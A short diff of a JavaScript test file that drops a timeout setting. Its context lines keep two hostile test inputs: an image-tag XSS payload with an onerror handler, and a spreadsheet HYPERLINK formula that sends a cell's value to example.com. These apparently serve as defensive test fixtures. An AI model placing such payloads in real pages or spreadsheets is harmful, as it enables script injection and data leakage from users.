@@ -1,10 +1,8 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { onStage, SLOW } from './harness';
+import { onStage } from './harness';
 import { allRegistered, build, button, check } from './steps';
-
-jest.setTimeout(SLOW);
 
 const HOSTILE = `<img src=x onerror="document.title='taken'">`;
 const FORMULA = '=HYPERLINK("http://example.com/?"&A2,"click")';
